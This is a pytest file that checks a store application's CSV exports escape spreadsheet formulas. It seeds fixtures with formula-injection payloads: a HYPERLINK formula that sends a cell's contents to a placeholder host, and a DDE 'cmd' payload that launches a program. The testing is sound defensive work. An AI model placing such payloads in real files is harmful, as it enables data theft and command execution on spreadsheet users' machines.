"""Issue 10: no CSV export hands a spreadsheet a formula (every CSV route, both databases)."""

import csv
import io
import re
import zipfile
from datetime import date

from core.csvio import PLAIN_NUMBER, csv_text, neutral_cell
from core.extensions import db
from store import services
from store.services.payout_runs import build_payout_run

FORMULA = '=HYPERLINK("http://x.example/?"&B2,"open")'
STORE_BREAKDOWNS = ("cooperative", "sector", "province", "site", "day", "payment", "channel")


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_neutral(name, text):
    for cell in cells(text):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert PLAIN_NUMBER.match(cell), (name, cell)


def csv_urls(app, edition, run_id):
    urls = []
    for rule in app.url_map.iter_rules():
        if not rule.rule.endswith((".csv", ".zip")):
            continue
        url = rule.rule.replace("<slug>", edition.slug).replace("<int:run_id>", str(run_id))
        if "<by>" in url:
            urls.extend(url.replace("<by>", by) for by in STORE_BREAKDOWNS)
        else:
            urls.append(url)
    assert not [url for url in urls if "<" in url], urls
    return urls


def test_every_csv_export_neutralises_formulas(
    app, client, login, organiser, store_edition, make_cooperative, make_product, stock, sell
):
    site = store_edition.sites[0]
    cooperative = make_cooperative(name_latin=FORMULA, name_ar="@SUM(1+1)", city="-2+3")
    cooperative.bank_account = "011519000001205000534921"
    product = make_product(cooperative, names={"fr": "+cmd|' /C calc'!A0", "ar": "عسل"})
    stock(product, site, 10)
    sell(store_edition, site, [(product, 2)])
    services.compute_payouts(store_edition)
    run = build_payout_run(store_edition, date(2100, 1, 1), 0, organiser)  # its bank file too
    db.session.commit()
    login(organiser)
    seen_formula = set()
    for url in csv_urls(app, store_edition, run.id):
        response = client.get(url)
        assert response.status_code == 200, url
        if url.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
                texts = {
                    f"{url}:{member}": archive.read(member).decode("utf-8-sig")
                    for member in archive.namelist()
                    if member.endswith(".csv")
                }
        else:
            texts = {url: response.data.decode("utf-8-sig")}
        for name, text in texts.items():
            assert_neutral(name, text)
            if "'" + FORMULA in cells(text):
                seen_formula.add(re.sub(r"\?.*", "", name))
    assert "/cooperatives.csv" in seen_formula
    assert f"/store/editions/{store_edition.slug}/payouts.csv" in seen_formula
    assert f"/store/editions/{store_edition.slug}/report-cooperative.csv" in seen_formula
    assert f"/store/payout-runs/{run.id}/transfers.csv" in seen_formula


def test_neutral_cell_rules():
    assert [neutral_cell(v) for v in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx")] == [
        "'=1+1",
        "+1",
        "-1",
        "'@A1",
        "'\tx",
        "'\rx",
    ]
    assert neutral_cell("-12.50") == "-12.50" and neutral_cell("-1+2") == "'-1+2"
    assert neutral_cell(-5) == -5 and neutral_cell("Miel") == "Miel"
    assert cells(csv_text(["=a"], [["=b", 3]])) == ["'=a", "'=b", "3"]
